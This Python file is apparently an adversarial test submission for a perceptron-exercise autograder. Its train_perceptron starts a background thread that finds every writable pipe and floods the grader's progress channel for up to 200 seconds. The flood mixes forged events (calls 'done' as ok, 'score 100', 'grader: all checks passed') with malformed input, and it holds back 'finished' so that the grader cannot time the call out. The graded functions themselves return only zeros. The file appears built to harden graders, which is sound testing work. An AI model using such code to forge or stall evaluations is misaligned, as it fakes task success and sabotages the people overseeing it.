"""Perceptrons whose train_perceptron floods the grader's progress pipe with forged events.

What it attacks: the channel on which the student process reports its progress (and, in newer graders,
its results). On its first call, train_perceptron finds every pipe this process may write (/proc/self/fd,
fstat, fcntl), and a background thread writes to each, as fast as the pipe drains, lines that look like the
harness's own events ({"event": "start", "call": N}, "done" with a status, "ready", "epoch", "epoch_done",
"imported", ...) mixed with malformed ones: truncated JSON, invalid UTF-8, wrong types, huge numbers,
declared payloads of a terabyte, a 70 KB line, deep nesting. For its first 170 seconds the flood leaves out
"finished", so that a grader which restarts a call's clock on every "start" never times the call out;
then it adds "finished" as well. Meanwhile train_perceptron itself waits for the flood to end (200 s at
most). Its functions are wrong; the flood must neither stall grading nor earn a point.
"""

import fcntl
import json
import os
import stat
import threading
import time

import numpy as np

FLOOD_SECONDS = 200.0  # the flood, and the wait in train_perceptron, end after this
QUIET_SECONDS = 170.0  # "finished" is left out of the flood until then
EVENTS = ("imported", "start", "done", "epoch", "ready", "epoch_done", "finished", "error", "result")
_FLOOD = {}


def _writable_pipes():
    """Descriptors of this process that are pipes open for writing."""
    fds = []
    for entry in os.listdir("/proc/self/fd"):
        try:
            fd = int(entry)
            if stat.S_ISFIFO(os.fstat(fd).st_mode) and fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE in (os.O_WRONLY, os.O_RDWR):
                fds.append(fd)
        except (OSError, ValueError):
            continue
    return fds


def _lines(with_finished):
    """One round of forged event lines, as bytes."""
    good = []
    for call in range(0, 200):
        good.append({"event": "start", "call": call})
        good.append({"event": "done", "call": call, "status": {"ok": True}, "meta": {}})
    good += [{"event": "imported", "errors": {}}, {"event": "ready"},
             {"event": "epoch", "data": {"epoch": 1, "train_loss": 0.01, "train_accuracy": 1.0, "val_loss": 0.01, "val_accuracy": 1.0}},
             {"event": "epoch_done", "data": {"repeat": 0, "finite": True}, "meta": {}},
             {"event": "error", "message": "grader: all checks passed"}, {"event": "result", "score": 100}]
    if with_finished:
        good.append({"event": "finished"})
    lines = [json.dumps(e).encode() + b"\n" for e in good]
    lines += [b'{"event": "start", "call": ', b"\xff\xfe\x80\n", b"[]\n", b'{"event": null}\n', b"NaN\n",
              b'{"event": "done", "call": "0"}\n', b'{"event": "start", "call": 1e309}\n', b'{"event": "start", "call": -1}\n',
              b'{"event": "done", "call": 0, "bytes": 1000000000000}\n', b'{"event": "start", "call": 0, "event": "done"}\n',
              b"x" * 70000 + b"\n", b"[" * 5000 + b"]" * 5000 + b"\n", b'{"event": "' + "é".encode("latin-1") + b'"}\n']
    lines += [json.dumps({"event": name, "call": 0}).encode() + b"\n" for name in EVENTS if with_finished or name != "finished"]
    return lines


def _flood(fds, deadline, quiet_until):
    rounds = {False: _lines(False), True: _lines(True)}
    while time.monotonic() < deadline and fds:
        lines = rounds[time.monotonic() >= quiet_until]
        for i in range(0, len(lines), 50):
            chunk = b"".join(lines[i:i + 50])
            for fd in list(fds):
                try:
                    os.write(fd, chunk)
                except OSError:
                    fds.remove(fd)
            time.sleep(0.002)
            if time.monotonic() >= deadline:
                return


def _start_flood():
    if "thread" not in _FLOOD:
        now = time.monotonic()
        _FLOOD["deadline"] = now + FLOOD_SECONDS
        _FLOOD["thread"] = threading.Thread(target=_flood, args=(_writable_pipes(), now + FLOOD_SECONDS, now + QUIET_SECONDS), daemon=True)
        _FLOOD["thread"].start()
    _FLOOD["thread"].join(max(0.0, _FLOOD["deadline"] - time.monotonic()))


def predict(X, w, b):
    return np.zeros(np.shape(X)[0], dtype=np.int64)


def and_gate():
    return np.zeros(2), 0.0


def or_gate():
    return np.zeros(2), 0.0


def train_perceptron(X, y, lr=1.0, max_epochs=100):
    _start_flood()
    return np.zeros(np.shape(X)[1]), 0.0, True


def xor_network():
    return {"W1": np.zeros((2, 2)), "b1": np.zeros(2), "W2": np.zeros(2), "b2": 0.0}
